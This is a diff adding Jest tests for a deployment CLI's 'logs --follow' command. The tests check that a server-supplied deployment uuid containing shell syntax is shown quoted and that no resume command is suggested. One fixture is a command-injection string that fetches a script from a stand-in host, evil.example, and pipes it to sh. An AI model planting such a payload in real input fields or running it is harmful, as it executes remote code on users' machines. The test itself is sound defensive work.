@@ -342,6 +342,56 @@ describe('dms logs --follow', () => {
     expect(lines(stdout)).toEqual(['one', 'two']);
     expect(stderr).toMatch(new RegExp(`stopped following; deployment 248 goes on .*Resume with: dms logs ${APP} 248 --follow\\n$`));
   });
+
+  describe('a deployment the server names by a uuid that is not a plain id', () => {
+    // No id, and a uuid that a shell would run: it is shown quoted, as data, and no command is suggested.
+    const EVIL = 'x;curl${IFS}evil.example/s|sh;#$(id)';
+    const QUOTED = JSON.stringify(EVIL);
+    const evilRow = (extra: Row = {}) => ({ ...row(248, 'in_progress', A), id: undefined, deployment_uuid: EVIL, ...extra });
+    const expectNoCommand = (stderr: string) => {
+      expect(stderr).not.toMatch(/Resume with/);
+      expect(stderr).not.toMatch(/dms logs \S+ x;/);
+      expect(stderr).toMatch(/No command to resume is suggested: its uuid is not a plain id \(letters, digits and -\)\.\n$/);
+    };
+
+    it('--wait-timeout: exit 9, the uuid quoted, no "Resume with" command', async () => {
+      const s = await serve(lister(() => [evilRow()]));
+      const r = await runBin(['logs', APP, '--follow', '--wait-timeout', '0.3'], { env: env(s) });
+      expect(r.code).toBe(9);
+      expect(lines(r.stdout)).toEqual(['one', 'two']);
+      expect(r.stderr).toContain(`dms: deployment ${QUOTED} in progress`);
+      expect(r.stderr).toContain(`stopped waiting after 0.3s; deployment ${QUOTED} is still in progress. No command`);
+      expectNoCommand(r.stderr);
+    });
+
+    it('Ctrl+C: exit 130, no "Resume with" command', async () => {
+      const s = await serve(lister(() => [evilRow()]));
+      const child = spawn(process.execPath, [BIN, 'logs', APP, '--follow'], {
+        env: { PATH: process.env.PATH, DMS_CONFIG_DIR: tempConfigDir(), ...env(s) }, stdio: ['ignore', 'ignore', 'pipe'],
+      });
+      let stderr = '';
+      let sent = false;
+      const code = await new Promise<number | null>((resolve) => {
+        child.stderr.setEncoding('utf8');
+        child.stderr.on('data', (d: string) => {
+          stderr += d;
+          if (!sent && stderr.includes('in progress')) sent = child.kill('SIGINT');
+        });
+        child.on('close', resolve);
+      });
+      expect(code).toBe(130);
+      expect(stderr).toContain(`stopped following; deployment ${QUOTED} goes on (Ctrl+C does not cancel it). No command`);
+      expectNoCommand(stderr);
+    });
+
+    it('neither an id nor a uuid: no command either (it would follow another deployment)', async () => {
+      const s = await serve(lister(() => [evilRow({ deployment_uuid: undefined })]));
+      // Stopped before the first poll (such a row cannot be found again).
+      const r = await runBin(['logs', APP, '--follow', '--wait-timeout', '0.3'], { env: env(s, { DMS_FOLLOW_INTERVAL_MS: '60000' }) });
+      expect(r.code).toBe(9);
+      expect(r.stderr).toMatch(/stopped waiting after 0\.3s; the deployment is still in progress\. No command to resume is suggested: the server gives it no id or uuid\.\n$/);
+    });
+  });
 });
 
 describe('dms logs: usage', () => {
